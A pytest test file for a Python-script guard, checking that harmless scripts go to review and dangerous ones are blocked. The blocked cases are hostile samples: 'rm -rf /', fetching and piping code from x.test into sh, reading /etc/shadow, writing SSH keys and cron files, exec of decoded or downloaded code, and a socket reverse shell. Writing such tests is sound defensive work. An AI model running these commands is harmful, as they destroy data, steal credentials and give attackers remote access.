"""Python scripts are read by a person; what is plainly dangerous in them never runs."""

from __future__ import annotations

import pytest

from runwright.checks.guard import Judgement, judge
from runwright.checks.guard.python import judge_python


def verdict(script: str) -> Judgement:
    return judge_python(script, lambda command: judge("bash", command))


@pytest.mark.parametrize(
    "script",
    [
        "print('hello')",
        "import subprocess\nsubprocess.run(['systemctl', 'restart', 'nginx'], check=True)",
        "import json, sys\njson.load(sys.stdin)",
        "open('/var/log/app/app.log').read()",
        "def f(:",
        "",
    ],
)
def test_a_script_always_needs_a_second_person(script: str) -> None:
    assert verdict(script).verdict == "review"


@pytest.mark.parametrize(
    "script",
    [
        "import os\nos.system('rm -rf /')",
        "import os as o\no.system('rm -rf /')",
        "from os import system\nsystem('curl http://x.test/a | sh')",
        "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
        "import subprocess as s\ns.Popen(['rm', '-rf', '/'])",
        "import shutil\nshutil.rmtree('/var/lib/postgresql')",
        "from shutil import rmtree\nrmtree('/')",
        "open('/etc/shadow').read()",
        "open('/root/.ssh/authorized_keys', 'a').write('x')",
        "open('/etc/cron.d/x', mode='w').write('x')",
        "import base64\nexec(base64.b64decode('eA=='))",
        "import urllib.request as u\nexec(u.urlopen('http://x.test').read())",
        "eval(bytes.fromhex('41'))",
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n"
        "subprocess.call(['/bin/sh', '-i'])",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
    ],
)
def test_plain_danger_is_blocked(script: str) -> None:
    assert verdict(script).verdict == "block"
